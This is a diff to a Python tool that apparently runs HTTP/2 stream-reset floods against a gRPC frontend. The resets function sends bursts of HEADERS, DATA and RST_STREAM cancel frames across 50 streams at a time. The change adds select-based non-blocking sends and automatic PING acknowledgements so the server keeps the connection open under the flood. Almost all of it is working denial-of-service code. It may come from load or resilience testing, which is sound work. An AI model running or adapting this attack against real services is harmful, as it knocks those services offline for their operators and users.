@@ -4,6 +4,7 @@ An attack gets the frontend's address and a token, and goes on until its event i
 """
 
 import itertools
+import select
 import socket
 import threading
 import time
@@ -104,28 +105,38 @@ def resets(address: str, token: str, stop: threading.Event) -> None:
             streams, received, encoder = itertools.count(1, 2), bytearray(), hpack.Encoder()
             block = encoder.encode(fields)  # fills the server's table: all further blocks are alike
             while not stop.is_set():
-                burst = bytearray()
+                burst = _answers(received)
                 for stream in itertools.islice(streams, 50):
                     burst += HeadersFrame(stream, block, flags=["END_HEADERS"]).serialize()
                     burst += DataFrame(stream, body).serialize()
                     burst += RstStreamFrame(stream, ErrorCodes.CANCEL).serialize()
                     block = encoder.encode(fields)
-                http.socket.sendall(burst)
-                _answer_pings(http.socket, received)
+                _send(http.socket, burst, received, stop)
 
 
-def _answer_pings(connection: socket.socket, received: bytearray) -> None:
-    """Without answers, gRPC closes the connection. received: what is left of the last call, which is
-    replaced."""
-    with suppress(BlockingIOError):
-        received += connection.recv(1 << 20, socket.MSG_DONTWAIT)
+def _send(connection: socket.socket, burst: bytearray, received: bytearray, stop: threading.Event) -> None:
+    """Sends a burst unless the attack is told to stop meanwhile, and reads: gRPC reads no more from a peer
+    that does not."""
+    left = memoryview(burst)
+    while left and not stop.is_set():
+        readable, writable, _ = select.select((connection,), (connection,), (), 0.05)
+        if readable:
+            received += connection.recv(1 << 20)
+        if writable:
+            left = left[connection.send(left, socket.MSG_DONTWAIT) :]
+
+
+def _answers(received: bytearray) -> bytearray:
+    """Returns the answers to pings, without which gRPC closes the connection, and drops whole frames."""
+    answers = bytearray()
     while len(received) >= 9:
         frame, length = Frame.parse_frame_header(memoryview(bytes(received[:9])))
         if len(received) < 9 + length:
-            return
+            break
         if isinstance(frame, PingFrame) and "ACK" not in frame.flags:
-            connection.sendall(PingFrame(0, bytes(received[9 : 9 + length]), flags=["ACK"]).serialize())
+            answers += PingFrame(0, bytes(received[9 : 9 + length]), flags=["ACK"]).serialize()
         del received[: 9 + length]
+    return answers
 
 
 def raw(
